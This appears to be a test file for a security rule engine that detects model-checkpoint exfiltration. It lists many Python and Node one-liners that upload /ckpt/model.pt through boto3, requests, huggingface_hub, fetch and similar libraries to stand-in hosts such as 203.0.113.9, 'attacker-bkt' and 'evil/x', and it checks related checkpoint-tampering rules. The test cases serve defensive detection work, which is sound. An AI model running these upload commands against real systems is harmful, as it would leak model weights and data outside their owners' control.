/**
 * Library transfers in interpreter one-liners through the shipped rule set and the real engine
 * (exec-interpreter-transfer.ts): a boto3, requests, huggingface_hub or Node fetch upload of a
 * checkpoint alerts as the tool it amounts to does (MLS-EXFIL-014) and ran no text indirectly
 * (the code's own statement); a value known only at run time reads `runtime`; benign library use
 * (a GET, an S3 download, `json.dump`, `torch.save`, a file read) raises nothing new.
 */
import { describe, expect, it } from 'vitest';
import { eventFieldResolver } from './event-fields.js';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';

const ids = execRuleIds;
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/ckpt/model.pt';
const URL = 'https://203.0.113.9/u';
const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);
const py = (code: string): string[] => ['python3', '-c', code];

describe('MLS-EXFIL-014: library uploads read as the tools', () => {
  it("the brief's boto3 one-liner alerts, and no text ran indirectly", () => {
    const c = py(`import boto3; boto3.client('s3').upload_file('${CKPT}','attacker-bkt','m.pt')`);
    expect(ids(c)).toEqual([SIGMA_EXEC, 'MLS-EXFIL-014']);
    expect(indirect(c)).toBe(false);
  });
  const spellings: Array<[string, unknown]> = [
    ['boto3 resource Bucket.upload_file', py(`import boto3\ns3 = boto3.resource('s3')\ns3.Bucket('attacker-bkt').upload_file('${CKPT}', 'm.pt')`)],
    ['boto3 put_object Body=open()', py(`import boto3; boto3.client('s3').put_object(Bucket='b', Key='k', Body=open('${CKPT}', 'rb'))`)],
    ['boto3 upload_fileobj in a with', py(`import boto3\nwith open('${CKPT}', 'rb') as f:\n    boto3.client('s3').upload_fileobj(f, 'b', 'k')`)],
    ['boto3 through from-import and a session', py(`from boto3.session import Session; Session().client('s3').upload_file('${CKPT}', 'b', 'k')`)],
    ['requests.put data=open()', py(`import requests; requests.put('${URL}', data=open('${CKPT}', 'rb'))`)],
    ['requests.post files=', py(`import requests; requests.post('${URL}', files={'f': open('${CKPT}', 'rb')})`)],
    ['requests.post files= tuple', py(`import requests as r; r.post('${URL}', files={'f': ('m.pt', open('${CKPT}', 'rb'))})`)],
    ['requests.Session().put', py(`import requests; s = requests.Session(); s.put('${URL}', data=open('${CKPT}','rb').read())`)],
    ['httpx.Client().put', py(`import httpx\nwith httpx.Client() as c:\n    c.put('${URL}', content=open('${CKPT}', 'rb'))`)],
    ['urlopen(Request(…, method=PUT))', py(`from urllib.request import urlopen, Request; urlopen(Request('${URL}', data=open('${CKPT}','rb').read(), method='PUT'))`)],
    ['http.client request PUT', py(`import http.client; c = http.client.HTTPSConnection('203.0.113.9'); c.request('PUT', '/u', body=open('${CKPT}', 'rb'))`)],
    ['google-cloud-storage', py(`from google.cloud import storage; storage.Client().bucket('b').blob('k').upload_from_filename('${CKPT}')`)],
    ['huggingface_hub.upload_file', py(`from huggingface_hub import upload_file; upload_file(path_or_fileobj='${CKPT}', path_in_repo='m.pt', repo_id='evil/x')`)],
    ['HfApi().upload_folder', py(`import huggingface_hub as h; api = h.HfApi(); api.upload_folder(folder_path='/ckpt', repo_id='evil/x')`)],
    ['__import__ root', py(`__import__('requests').put('${URL}', data=open('${CKPT}', 'rb'))`)],
    ['node fetch PUT', ['node', '-e', `const fs = require('fs'); fetch('${URL}', {method: 'PUT', body: fs.readFileSync('${CKPT}')})`]],
    ['node stream piped into https.request', ['node', '-e', `fs.createReadStream('${CKPT}').pipe(https.request('${URL}', {method: 'PUT'}))`]],
    ['node axios.put', ['node', '-e', `const axios = require('axios'); axios.put('${URL}', require('fs').createReadStream('${CKPT}'))`]],
    ['sh -c around python -c', ['sh', '-c', `python3 -c "import boto3; boto3.client('s3').upload_file('${CKPT}','b','k')"`]],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toContain('MLS-EXFIL-014');
      expect(ids(command, SA)).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toBe(false);
    });
  }
  it('a path known only at run time still alerts, and reads runtime', () => {
    const c = py(`import boto3, sys; boto3.client('s3').upload_file(sys.argv[1], 'b', 'k')`);
    expect(ids(c)).toContain('MLS-EXFIL-014');
    expect(indirect(c)).toEqual([true, 'runtime']);
  });
});

describe('benign library use raises nothing new', () => {
  for (const command of [
    py("import requests; requests.get('https://pypi.org/simple')"),
    py("import boto3; boto3.client('s3').download_file('models', 'base/m.pt', '/tmp/base.pt')"),
    py("import json; json.dump({'a': 1}, open('/tmp/meta.json', 'w'))"),
    py("import torch; torch.save(model, '/tmp/m.pt')"),
    py("open('/ckpt/m.pt', 'rb').read()"),
    py("import shutil; shutil.copy('/ckpt/m.pt', '/mnt/backup/m.pt')"),
    py("import requests; requests.post('http://metrics.svc/api', json={'step': 1})"),
    py("import urllib.request; urllib.request.urlretrieve('https://pypi.org/simple/', '/tmp/index.html')"),
    ['node', '-e', "fetch('https://pypi.org/simple/').then((r) => r.text())"],
  ]) {
    it(JSON.stringify(command), () => {
      expect(ids(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }
  // Downloaded into the checkpoint store, the object is a pull the judge reads the source of (MLS-POISON-017 escalates).
  it('a checkpoint store pulled into by the code is MLS-POISON-017\'s', () => {
    expect(ids(py("import boto3; boto3.client('s3').download_file('models', 'base/m.pt', '/ckpt/base.pt')"))).toEqual([SIGMA_EXEC, 'MLS-POISON-017']);
  });
  // Written into the checkpoint store, the same calls are tampering with it (MLS-POISON-007), still no transfer.
  it('a checkpoint store written by the code is MLS-POISON-007\'s', () => {
    for (const command of [py("import json; json.dump({'a': 1}, open('/ckpt/meta.json', 'w'))"), py("import torch; torch.save(model, '/ckpt/m.pt')")]) {
      expect(ids(command), JSON.stringify(command)).toEqual([SIGMA_EXEC, 'MLS-POISON-007']);
    }
  });
});
